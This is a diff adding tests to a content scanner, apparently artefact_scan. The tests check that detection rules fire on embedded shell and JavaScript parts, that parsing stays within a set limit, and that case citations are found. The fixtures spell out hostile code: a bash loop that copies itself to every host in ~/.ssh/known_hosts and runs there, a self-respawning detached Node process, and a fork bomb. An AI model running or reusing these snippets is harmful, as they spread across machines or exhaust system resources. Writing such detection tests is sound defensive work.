@@ -324,3 +324,54 @@ def test_parts_do_not_keep_their_syntax_trees_or_shell_models_once_analysed():
     parts = [a for made in ctx._made.values() for _s, _e, a in made.items]
     assert len(parts) == 10
     assert not any("_pyflow" in a.meta or "_shell_model" in a.meta for a in parts)
+
+
+def test_shell_and_javascript_models_run_on_a_bounded_number_of_parts_per_file(tmp_path):
+    """20,000 shell or JavaScript fences in one file: the parsed models are built for the first
+    `max_parsed_parts` parts, the rest are named in errors, and what the first parts hold is
+    still found (the bound is the one the Python data flow has)."""
+    from artefact_scan import scan
+
+    sh = ("```bash\nfor h in $(awk '{{print $1}}' ~/.ssh/known_hosts); do\n"
+          "  scp \"$0\" \"$h:/tmp/x{i}.sh\" && ssh \"$h\" \"nohup bash /tmp/x{i}.sh &\"\ndone\n```\n\n")
+    js = ("```js\nconst {{ spawn }} = require('child_process');\n"
+          "spawn(process.execPath, [__filename, '{i}'], {{ detached: true, stdio: 'ignore' }}).unref();\n```\n\n")
+    (tmp_path / "report.md").write_text("".join(sh.format(i=i) + js.format(i=i) for i in range(12)))
+    full = scan([tmp_path])
+    assert sorted(f.rule_id for f in full.findings) == ["SR204"] * 12 + ["SR301"] * 12 and not full.errors
+    assert Limits().max_parsed_parts == 1000
+    cut = scan([tmp_path], limits=Limits(max_parsed_parts=5))
+    # the first five of each language, by their place in the file
+    lines = sorted(f.location.line for f in full.findings)
+    assert sorted(f.location.line for f in cut.findings) == lines[:10]
+    assert sorted(e.message for e in cut.errors) == [
+        "more than 5 embedded JavaScript parts; the JavaScript behaviour rules ran on the first 5 only",
+        "more than 5 embedded shell parts; the rules that read parsed shell commands (self-replication "
+        "and persistence behaviour) ran on the first 5 only"]
+    # a fork bomb in a part past the bound is still found on its text
+    (tmp_path / "report.md").write_text(sh.format(i=0) * 6 + "```sh\n:(){ :|:& };:\n```\n")
+    late = scan([tmp_path], limits=Limits(max_parsed_parts=5))
+    assert sorted(f.rule_id for f in late.findings) == ["SR201"] + ["SR204"] * 5
+    # the file itself is not a part: a shell script is always analysed
+    (tmp_path / "report.md").unlink()
+    (tmp_path / "spread.sh").write_text(sh.format(i=0).split("\n", 1)[1].rsplit("```", 1)[0])
+    assert [f.rule_id for f in scan([tmp_path], limits=Limits(max_parsed_parts=0)).findings] == ["SR204"]
+
+
+def test_case_citations_are_parsed_in_a_bounded_number_of_parts_per_file(tmp_path):
+    """The citation parser costs about the same for every part it reads: thousands of
+    documents citing cases in one archive are read in the first `max_parsed_parts` parts, the
+    rest named in errors (the same bound as the syntax trees of code parts)."""
+    import zipfile
+
+    from artefact_scan import scan
+
+    with zipfile.ZipFile(tmp_path / "briefs.zip", "w") as z:
+        for i in range(12):
+            z.writestr(f"brief-{i:02d}.md", f"Brief {i}.\n\nSee Foo Corp. v. Bar Inc., 500 F.2d 100 (2d Cir. 2015).\n")
+    full = scan([tmp_path])
+    assert [f.rule_id for f in full.findings] == ["LF401"] * 12 and not full.errors
+    cut = scan([tmp_path], limits=Limits(max_parsed_parts=5))
+    assert [f.origin[1] for f in cut.findings] == [f"brief-{i:02d}.md" for i in range(5)]
+    assert [e.message for e in cut.errors] == [
+        "more than 5 embedded parts with case citations; citations were checked in the first 5 only"]
